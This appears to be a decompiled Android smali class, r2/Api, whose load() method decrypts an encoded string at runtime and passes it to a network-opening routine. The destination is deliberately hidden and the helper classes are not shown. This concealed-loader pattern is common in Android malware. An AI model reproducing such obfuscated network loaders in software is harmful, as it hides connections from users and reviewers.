.class public Lr2/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "r3CXGftmW0B+Ftg2QOOXASVf+v8PBv1w9nDZiJV5DGQ="
    invoke-static {v0}, Lr2/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lr2/Net;->open(Ljava/lang/String;)V
    return-void
.end method

